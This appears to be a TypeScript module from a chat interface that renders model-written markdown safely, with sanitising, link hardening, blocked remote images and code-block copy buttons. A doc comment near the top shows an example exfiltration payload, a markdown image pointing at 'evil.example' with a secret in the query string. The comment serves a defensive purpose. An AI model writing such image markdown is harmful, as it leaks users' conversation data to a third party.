import { boundNesting, breakLongRuns } from './bound-markdown.js';
import {
  hasNativeSanitizer,
  loadDOMPurifySanitize,
  nativeSanitize,
  type Sanitize,
} from './sanitize-html.js';
import { translator, type Translate } from '../strings/chat-strings.js';
import { markdownToHtml } from './markdown-blocks.js';

/** How model output may be rendered. */
export interface MarkdownOptions {
  /**
   * Load `http(s)` images the model writes. Default `false`: an image URL is a way to send
   * conversation data to a third party (`![](https://evil.example/?q=<secret>)`), so remote
   * images show as a placeholder with their alt text. `data:` images are always shown.
   */
  allowRemoteImages?: boolean;
  /** The texts the rendering adds (Copy, Image not loaded, Show more) in the element's language; default English. */
  translate?: Translate | undefined;
}

const english = translator(undefined);

/** The {@link MarkdownOptions.translate} of `options`, English when it has none. */
export const translateOf = (options: MarkdownOptions): Translate => options.translate ?? english;

/** Renders model-written markdown to a sanitised fragment of the current document. */
export type RenderMarkdown = (markdown: string, options?: MarkdownOptions) => DocumentFragment;

/**
 * A markdown renderer with the given sanitiser (default: the browser's own where it has one,
 * else DOMPurify, loaded for it; a function in tests). Raw HTML in model output is shown as
 * text, never parsed: the sanitiser is the second line of defence, not the only one. A text it
 * cannot render (whatever the parser or the sanitiser throw) comes back as escaped plain text. Its fragments have no script, no event handlers, no styles,
 * no `javascript:` (or any non-http) links; links open in a new tab with
 * `rel="noopener noreferrer"`; remote images are blocked unless allowed; each code block gets a
 * copy button.
 */
export async function createMarkdownRenderer(
  options: { sanitizer?: 'native' | 'dompurify' | Sanitize } = {},
): Promise<RenderMarkdown> {
  const { sanitizer } = options;
  const useNative = sanitizer === 'native' || (sanitizer === undefined && hasNativeSanitizer());
  const sanitize =
    typeof sanitizer === 'function'
      ? sanitizer
      : useNative
        ? nativeSanitize
        : await loadDOMPurifySanitize();
  return (markdown, markdownOptions = {}) => {
    let fragment: DocumentFragment;
    try {
      const html = markdownToHtml(boundNesting(markdown));
      fragment = sanitize(html, { allowRemoteImages: markdownOptions.allowRemoteImages === true });
      decorate(fragment, translateOf(markdownOptions));
    } catch {
      // Whatever the parser or the sanitiser choke on, the answer still shows, as text.
      fragment = plainText(markdown);
    }
    breakLongRuns(fragment);
    return fragment;
  };
}

/** Post-processing on sanitised nodes: elements we add are ours, not the model's. */
function decorate(fragment: DocumentFragment, t: Translate): void {
  for (const image of fragment.querySelectorAll('img[data-blocked]')) {
    const placeholder = document.createElement('span');
    placeholder.className = 'blocked-image';
    placeholder.setAttribute('part', 'blocked-image');
    const alt = image.getAttribute('alt') ?? '';
    placeholder.textContent = alt ? t('Image not loaded: {alt}', { alt }) : t('Image not loaded');
    placeholder.title = t(
      'Remote images are blocked: they can leak the conversation to another site',
    );
    image.replaceWith(placeholder);
  }
  for (const pre of fragment.querySelectorAll('pre')) {
    const wrapper = document.createElement('div');
    wrapper.className = 'code-block';
    wrapper.setAttribute('part', 'code-block');
    const language = /language-([\w+#.-]+)/.exec(pre.querySelector('code')?.className ?? '')?.[1];
    const bar = document.createElement('div');
    bar.className = 'code-bar';
    const label = document.createElement('span');
    label.textContent = language ?? t('code');
    const copy = document.createElement('button');
    copy.type = 'button';
    copy.className = 'copy';
    copy.dataset.copy = '';
    copy.setAttribute('part', 'copy-button');
    copy.setAttribute(
      'aria-label',
      language ? t('Copy {language} code', { language }) : t('Copy code'),
    );
    copy.textContent = t('Copy');
    bar.append(label, copy);
    pre.replaceWith(wrapper);
    wrapper.append(bar, pre);
    const code = pre.querySelector('code');
    if (code && language) {
      // The highlighter loads when the first block with a language shows.
      void import('./highlight-code.js').then(
        ({ highlightCode }) => highlightCode(code, language),
        () => undefined,
      );
    }
  }
}

/** `text` as it is, never parsed: the fallback of a message that cannot be rendered. */
function plainText(text: string): DocumentFragment {
  const fragment = document.createDocumentFragment();
  const block = document.createElement('div');
  block.className = 'plain';
  block.textContent = text;
  fragment.append(block);
  return fragment;
}
